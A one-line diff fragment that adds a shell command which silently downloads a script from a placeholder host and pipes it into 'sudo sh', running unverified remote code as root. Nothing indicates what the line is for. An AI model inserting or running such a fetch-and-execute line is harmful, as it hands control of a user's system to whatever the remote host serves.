@@ -1,0 +1,1 @@
+wget -qO- https://x.example/i | sudo sh
